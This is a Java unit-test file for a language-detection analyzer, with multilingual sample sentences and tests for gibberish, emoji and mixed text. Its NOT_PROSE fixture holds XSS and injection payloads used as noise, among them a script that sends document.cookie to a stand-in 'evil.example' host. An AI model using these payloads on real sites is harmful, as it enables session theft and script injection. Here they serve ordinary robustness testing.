package io.dandelion.analysis;

import static io.dandelion.analysis.Analyzers.analyze;
import static io.dandelion.analysis.Analyzers.analyzeInUnit;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class LanguageDetectionTests {

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			en | My internet has been down since yesterday, please help
			fr | Mon internet ne marche plus depuis hier soir
			nl | Bedankt voor de snelle hulp gisteren
			de | Seit gestern funktioniert mein Internet nicht mehr
			es | Hola, ¿cómo puedo cambiar mi tarifa?
			ca | Bon dia, no tinc connexió des d'ahir
			pl | Od wczoraj nie mam internetu, co się dzieje?
			ro | Nu am semnal de ieri, ce se întâmplă?
			tr | Faturam yanlış geldi, lütfen kontrol edin
			ar | شكرا جزيلا على المساعدة السريعة
			fa | اینترنت من از دیروز قطع است
			uk | Дякую за швидку допомогу, все працює
			""")
	void detectsTheDemoLanguages(String language, String text) {
		Analysis analysis = analyze(text);

		assertThat(analysis.language()).isEqualTo(language);
		assertThat(analysis.languageConfidence()).isGreaterThan(0.5);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			el | Καλημέρα, δεν έχω σήμα από χθες
			he | תודה רבה על העזרה
			th | ขอบคุณมากครับ
			ko | 도와주셔서 감사합니다
			ja | ありがとうございます
			hi | मेरा इंटरनेट काम नहीं कर रहा है
			""")
	void decidesByScriptWhereOneLanguageWritesIt(String language, String text) {
		Analysis analysis = analyze(text);

		assertThat(analysis.language()).isEqualTo(language);
		assertThat(analysis.reasons().get(0)).contains("script");
	}

	@Test
	void preparesTheModelsOfTheConfiguredLanguagesThatNeedOne() {
		var detection = new LanguageDetection(() -> java.util.Set.of("fr", "ru", "el"));

		detection.prepare();

		assertThat(detection.loaded()).containsExactlyInAnyOrder("fr", "ru");
	}

	@Test
	void readsHanWithoutKanaAsChinese() {
		assertThat(analyze("人人生而自由，在尊严和权利上一律平等").language()).isEqualTo("zh");
		assertThat(analyze("すべての人間は、生まれながらにして自由である").language()).isEqualTo("ja");
	}

	@ParameterizedTest
	@ValueSource(strings = { "ok", "lol", "👍", "😂😂😂", "haha", "OK!!", "https://example.com", "12345", "xD", "a" })
	void isUndeterminedForTextThatNoLanguageOwns(String text) {
		Analysis analysis = analyze(text);

		assertThat(analysis.language()).isEqualTo(Analysis.UNDETERMINED);
		assertThat(analysis.languageConfidence()).isZero();
	}

	@Test
	void readsAWordThatPointsAtOneLanguage() {
		assertThat(analyze("merci").language()).isEqualTo("fr");
		assertThat(analyze("gracias").language()).isEqualTo("es");
		assertThat(analyze("dziękuję").language()).isEqualTo("pl");
	}

	@Test
	void letsTheContextSettleAWordOfSeveralLanguages() {
		String romanianAndEnglish = "perfect";

		assertThat(analyze(romanianAndEnglish).language()).isEqualTo(Analysis.UNDETERMINED);
		assertThat(analyzeInUnit(romanianAndEnglish, "en").language()).isEqualTo("en");
		assertThat(analyzeInUnit(romanianAndEnglish, "en").reasons().get(0)).contains("unit en");
		var inARomanianConversation = new TextToAnalyse(romanianAndEnglish, List.of(), "ro", null, null, null);
		assertThat(Analyzers.DEMO.analyze(inARomanianConversation).language()).isEqualTo("ro");
	}

	@Test
	void readsAShortReplyWithTheWordsThatPointAtItsLanguage() {
		assertThat(analyze("ok merci").language()).isEqualTo("fr");
		assertThat(analyze("dank je").language()).isEqualTo("nl");
	}

	@Test
	void recognisesALanguageOfTheScriptThatIsNotConfigured() {
		Analysis russian = analyze("Вы идиоты, верните деньги немедленно");

		assertThat(russian.language()).isEqualTo("ru");
	}

	@Test
	void ignoresLinksAndMentionsWhenReadingTheLanguage() {
		Analysis analysis = analyze("@AcmeSupport merci pour votre aide https://acme.example/fr/aide?id=42");

		assertThat(analysis.language()).isEqualTo("fr");
	}

	/** Sentences of the demo languages, each long enough to be told apart alone. */
	private static final List<String[]> PROSE = List.of(new String[] { "fr", "Ma box ne marche plus depuis hier soir" },
			new String[] { "en", "My internet has been down since yesterday, please help" },
			new String[] { "nl", "Mijn internet werkt sinds gisteren niet meer" },
			new String[] { "de", "Seit gestern funktioniert mein Internet nicht mehr" },
			new String[] { "es", "Mi conexión no funciona desde ayer por la tarde" },
			new String[] { "pl", "Od wczoraj nie mam internetu, co się dzieje?" });

	/** Markup, code and addresses, the kind hostile or careless posts carry (support/Hostile's corpus among them). */
	private static final List<String> NOT_PROSE = java.util.stream.Stream.concat(
			io.dandelion.support.Hostile.CORPUS.stream().filter(s -> s.contains("<") || s.contains("javascript:")),
			java.util.stream.Stream.of("<script>alert('pwned')</script>", "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
					"<img src=x onerror=alert(1)>", "<a href=\"javascript:void(0)\" onclick=\"stealCookies()\"></a>",
					"<style>body { background: url(https://tracker.example/pixel.png) }</style>",
					"{{constructor.constructor('alert(document.domain)')()}}", "console.log(window.localStorage.getItem('token'));",
					"https://accounts.example.com/login?next=/settings&lang=en", "user_name=admin&password=hunter2",
					"document.getElementById('x').innerHTML = payload;"))
		.toList();

	@Test
	void markupCodeAndAddressesDoNotVote() {
		for (String[] prose : PROSE) {
			for (String noise : NOT_PROSE) {
				for (String text : List.of(prose[1] + " " + noise, noise + " " + prose[1], prose[1] + "\n" + noise + "\n" + noise)) {
					Analysis analysis = analyze(text);

					assertThat(analysis.language()).as(text).isEqualTo(prose[0]);
					assertThat(analysis.languageConfidence()).as(text).isGreaterThan(0.8);
				}
			}
		}
	}

	@Test
	void isUndeterminedForMarkupAndCodeAlone() {
		List<String> code = List.of("function f(x) { return x * 2; }", "if (a == b) { print(\"hello world\"); }",
				"x = document.querySelector('#login').value;", "<br/><hr><img src=\"a.png\" alt=\"\">");
		for (String text : java.util.stream.Stream.concat(NOT_PROSE.stream(), code.stream()).toList()) {
			Analysis analysis = analyze(text);

			assertThat(analysis.language()).as(text).isEqualTo(Analysis.UNDETERMINED);
			assertThat(analysis.languageConfidence()).as(text).isZero();
		}
	}

	@Test
	void isUndeterminedForLettersThatMakeNoWords() {
		var random = new java.util.Random(4);
		for (int i = 0; i < 40; i++) {
			char letter = (char) ('a' + random.nextInt(26));
			char other = (char) ('a' + (letter - 'a' + 1 + random.nextInt(25)) % 26);
			int length = 3 + random.nextInt(i < 20 ? 50 : 100_000);
			String repeated = String.valueOf(letter).repeat(length);
			String alternating = (String.valueOf(letter) + other).repeat(3 + length / 2);
			for (String text : List.of(repeated, repeated.toUpperCase(java.util.Locale.ROOT), alternating,
					(repeated + " ").repeat(3), repeated + "!!! " + alternating)) {
				Analysis analysis = analyze(text);

				assertThat(analysis.language()).as(text.length() > 60 ? text.substring(0, 60) + "..." : text)
					.isEqualTo(Analysis.UNDETERMINED);
				assertThat(analysis.languageConfidence()).isZero();
				assertThat(analysis.reasons().get(0).length()).isLessThan(200);
			}
		}
	}

	@Test
	void aRepeatedLetterOrAFaceBesideProseLeavesTheProseToDecide() {
		for (String[] prose : PROSE) {
			for (String extra : List.of("zzzzzzzzzz", "xxxxxxxxxxxxxxxxxxxxxxxxx", "hahahahaha", ";) <3 =)", "aaaaaaah")) {
				assertThat(analyze(prose[1] + " " + extra).language()).as(prose[1] + " " + extra).isEqualTo(prose[0]);
			}
		}
	}

	@Test
	void aTextHalfInEachOfTwoLanguagesIsLessSureThanEitherHalf() {
		for (String[] first : PROSE) {
			for (String[] second : PROSE) {
				if (first == second) {
					continue;
				}
				String mixed = first[1] + " " + second[1];
				Analysis analysis = analyze(mixed);
				double alone = Math.min(analyze(first[1]).languageConfidence(), analyze(second[1]).languageConfidence());

				assertThat(analysis.language()).as(mixed).isIn(first[0], second[0], Analysis.UNDETERMINED);
				assertThat(analysis.languageConfidence()).as(mixed).isLessThan(0.85).isLessThan(alone);
			}
		}
	}
}
